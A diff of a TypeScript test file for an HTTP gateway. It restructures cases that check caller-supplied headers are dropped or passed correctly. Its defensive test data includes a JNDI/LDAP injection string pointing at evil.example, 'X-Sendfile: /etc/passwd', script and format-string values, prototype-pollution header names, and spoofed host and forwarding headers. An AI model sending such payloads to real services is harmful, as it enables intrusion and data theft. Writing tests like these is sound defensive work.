@@ -13,67 +13,66 @@ const connection = (value: string, ...lines: string[]): RawPost => ({
 /** Host, Content-Type, Connection and Content-Length: what every order has. */
 const usualLines = 4;
 
-/** Header lines that mean nothing to us, and what becomes of them (RFC 9110 7.6.1; product section 2). */
-export const headerCases: readonly HeaderCase[] = [
+/** What the caller says of itself, and the service never hears (RFC 9110 7.6.1; product section 2). */
+const dropped: readonly (readonly [name: string, ...lines: string[]])[] = [
   // Credentials of the caller: dropped in every casing and number; ours is the only one.
-  ["a bearer token", more("Authorization: Bearer mine"), 200],
-  ["a bearer token, shouted", more("AUTHORIZATION: BEARER mine"), 200],
-  ["two bearer tokens", more("Authorization: Bearer mine", "authorization: Bearer mine-too"), 200],
-  ["an empty Authorization", more("Authorization:"), 200],
-  ["an Authorization of 8 KiB", more(`Authorization: Bearer ${"m".repeat(8_192)}`), 200],
-  ["our own token's text", more("Authorization: Bearer token_1"), 200],
-  ["an Authorization with odd blanks", more("authorization:\t Bearer  mine \t"), 200],
-  [
-    "names that servers take for Authorization",
-    more("Authorization-: a", "X-Authorization: b", "HTTP_AUTHORIZATION: c"),
-    200,
-  ],
-  ["credentials for proxies", more("Proxy-Authorization: Basic bTptCg==", "PROXY-authorization: x"), 200],
-  ["cookies", more("Cookie: a=b", "COOKIE: c=d", "Cookie2: $Version=1"), 200],
-  ["an answer's cookie", more("Set-Cookie: a=b"), 200],
-  ["keys of many makers", more("X-Api-Key: m", "Api-Key: m", "X-Auth-Token: m", "X-Amz-Security-Token: m"), 200],
-  ["signatures", more("Signature: m", "Signature-Input: m", "X-Signature: m", "Digest: m", "Content-MD5: m"), 200],
-  ["certificates of the caller", more("X-Client-Cert: m", "Client-Cert: m", "X-Forwarded-Client-Cert: m"), 200],
+  ["a bearer token", "Authorization: Bearer mine"],
+  ["a bearer token, shouted", "AUTHORIZATION: BEARER mine"],
+  ["two bearer tokens", "Authorization: Bearer mine", "authorization: Bearer mine-too"],
+  ["an empty Authorization", "Authorization:"],
+  ["an Authorization of 8 KiB", `Authorization: Bearer ${"m".repeat(8_192)}`],
+  ["our own token's text", "Authorization: Bearer token_1"],
+  ["an Authorization with odd blanks", "authorization:\t Bearer  mine \t"],
+  ["names that servers take for Authorization", "Authorization-: a", "X-Authorization: b", "HTTP_AUTHORIZATION: c"],
+  ["credentials for proxies", "Proxy-Authorization: Basic bTptCg==", "PROXY-authorization: x"],
+  ["cookies", "Cookie: a=b", "COOKIE: c=d", "Cookie2: $Version=1"],
+  ["an answer's cookie", "Set-Cookie: a=b"],
+  ["keys of many makers", "X-Api-Key: m", "Api-Key: m", "X-Auth-Token: m", "X-Amz-Security-Token: m"],
+  ["signatures", "Signature: m", "Signature-Input: m", "X-Signature: m", "Digest: m", "Content-MD5: m"],
+  ["certificates of the caller", "X-Client-Cert: m", "Client-Cert: m", "X-Forwarded-Client-Cert: m"],
 
   // Whose request it is, and where it goes: nobody is told by the caller.
-  ["forwarding headers", more("Forwarded: for=192.0.2.1", "X-Forwarded-For: 192.0.2.1", "X-Real-IP: 192.0.2.1"), 200],
-  ["other hosts", more("X-Forwarded-Host: evil.example", "X-Host: evil.example", "X-Original-Host: evil.example"), 200],
-  [
-    "other targets",
-    more("X-Original-URL: /get_order", "X-Rewrite-URL: /get_order", "X-Forwarded-Path: /get_order"),
-    200,
-  ],
-  ["other methods", more("X-HTTP-Method-Override: DELETE", "X-HTTP-Method: PUT", "X-Method-Override: GET"), 200],
-  [
-    "internal headers of servers",
-    more("X-Accel-Redirect: /", "X-Sendfile: /etc/passwd", "X-Middleware-Subrequest: 1"),
-    200,
-  ],
-  ["a Via of the caller", more("Via: 1.1 evil.example, 1.1 countersign"), 200],
+  ["forwarding headers", "Forwarded: for=192.0.2.1", "X-Forwarded-For: 192.0.2.1", "X-Real-IP: 192.0.2.1"],
+  ["other hosts", "X-Forwarded-Host: evil.example", "X-Host: evil.example", "X-Original-Host: evil.example"],
+  ["other targets", "X-Original-URL: /get_order", "X-Rewrite-URL: /get_order", "X-Forwarded-Path: /get_order"],
+  ["other methods", "X-HTTP-Method-Override: DELETE", "X-HTTP-Method: PUT", "X-Method-Override: GET"],
+  ["internal headers of servers", "X-Accel-Redirect: /", "X-Sendfile: /etc/passwd", "X-Middleware-Subrequest: 1"],
+  ["a Via of the caller", "Via: 1.1 evil.example, 1.1 countersign"],
+
+  // Hop by hop, and what means nothing.
+  ["keep-alive in its old forms", "Keep-Alive: timeout=99999, max=1", "Proxy-Connection: keep-alive"],
+  ["TE and Trailer", "TE: trailers, deflate;q=0.5", "Trailer: Authorization, Host"],
+  ["Upgrade without Connection", "Upgrade: h2c, websocket", "HTTP2-Settings: AAMAAABk"],
+  ["what the caller accepts", "Accept: text/html", "Accept: */*"],
+  ["X-Tenant with an underscore", "X_Tenant: a"],
+  ["X-Tenant with a longer name", "X-Tenant-Id: a", "X-X-Tenant: a"],
+  ["names of JavaScript objects", "__proto__: a", "constructor: b", "toString: c", "hasOwnProperty: d"],
+  ["a name of one character", "X: 1", "~: 2", "0: 3"],
+  ["values like markup and formats", "X-Line: <script>", "X-Line: %s%n", "X-Line: $" + "{jndi:ldap://evil.example}"],
+  ["the body's own text as a value", `X-Line: ${orderText}`],
+];
+
+/** What Connection names, and nothing passes of it. */
+const nominated: readonly (readonly [what: string, value: string, ...lines: string[]])[] = [
+  ["our Authorization", "close, Authorization"],
+  ["all that we set", "close, host, accept, content-type, content-length, via, x-request-id"],
+  ["what may pass", "close, user-agent, TRACEPARENT", "User-Agent: shop", "Traceparent: t"],
+  ["what asks to pass", "close,X-Tenant", "X-Tenant: a"],
+  ["empty elements", ",, close ,,x-tenant,", "X-Tenant: a"],
+  ["itself", "close, connection, keep-alive"],
+];
+
+/** Header lines that mean nothing to us, and what becomes of them. */
+export const headerCases: readonly HeaderCase[] = [
+  ...dropped.map(([name, ...lines]): HeaderCase => [name, more(...lines), 200]),
 
   // Hop by hop.
-  ["keep-alive in its old forms", more("Keep-Alive: timeout=99999, max=1", "Proxy-Connection: keep-alive"), 200],
-  ["TE and Trailer", more("TE: trailers, deflate;q=0.5", "Trailer: Authorization, Host"), 200],
-  ["Upgrade without Connection", more("Upgrade: h2c, websocket", "HTTP2-Settings: AAMAAABk"), 200],
-  ["Connection nominates our Authorization", connection("close, Authorization"), 200],
-  [
-    "Connection nominates all that we set",
-    connection("close, host, accept, content-type, content-length, via, x-request-id"),
-    200,
-  ],
-  [
-    "Connection nominates what may pass",
-    connection("close, user-agent, TRACEPARENT", "User-Agent: shop", "Traceparent: t"),
-    200,
-  ],
-  ["Connection nominates what asks to pass", connection("close,X-Tenant", "X-Tenant: a"), 200],
+  ...nominated.map(([what, value, ...lines]): HeaderCase => [`Connection: ${what}`, connection(value, ...lines), 200]),
   [
     "Connection on two lines",
     { connection: ["Connection: x-tenant", "CONNECTION: close"], more: ["x-tenant: a"] },
     200,
   ],
-  ["Connection with empty elements", connection(",, close ,,x-tenant,", "X-Tenant: a"), 200],
-  ["Connection nominates itself", connection("close, connection, keep-alive"), 200],
   ["Connection nominates nonsense", connection('close, "x-tenant", \\x-tenant', "X-Tenant: a"), 200, ["x-tenant: a"]],
 
   [
@@ -85,7 +84,6 @@ export const headerCases: readonly HeaderCase[] = [
     200,
     ["tracestate: a=1"],
   ],
-  ["what the caller accepts", more("Accept: text/html", "Accept: */*"), 200],
 
   // What passes, and only as often as it was said.
   ["User-Agent", more("USER-AGENT: shop/2"), 200, ["user-agent: shop/2"]],
@@ -97,8 +95,6 @@ export const headerCases: readonly HeaderCase[] = [
   ],
   ["a trace", more("traceparent: 00-a-b-01", "tracestate: c=d"), 200, ["traceparent: 00-a-b-01", "tracestate: c=d"]],
   ["what the configuration lets through", more("X-TENANT: a"), 200, ["x-tenant: a"]],
-  ["the same with an underscore", more("X_Tenant: a"), 200],
-  ["the same with a longer name", more("X-Tenant-Id: a", "X-X-Tenant: a"), 200],
   ["a value of 8 KiB", more(`X-Tenant: ${"t".repeat(8_192)}`), 200, [`x-tenant: ${"t".repeat(8_192)}`]],
 
   // How many, how long, how odd.
@@ -120,12 +116,4 @@ export const headerCases: readonly HeaderCase[] = [
   ["a name of 17 KiB", more(`${"X".repeat(17_408)}: 1`), 431],
   ["values of 17 KiB in all", repeated(17, (n) => `X-${n}: ${"x".repeat(1_024)}`), 431],
   ["100 lines, 96 of them credentials", repeated(100 - usualLines, () => "Authorization: Bearer mine"), 200],
-  ["names of JavaScript objects", more("__proto__: a", "constructor: b", "toString: c", "hasOwnProperty: d"), 200],
-  ["a name of one character", more("X: 1", "~: 2", "0: 3"), 200],
-  [
-    "values like markup and formats",
-    more("X-Line: <script>", "X-Line: %s%n", "X-Line: $" + "{jndi:ldap://evil.example}"),
-    200,
-  ],
-  ["the body's own text as a value", more(`X-Line: ${orderText}`), 200],
 ];
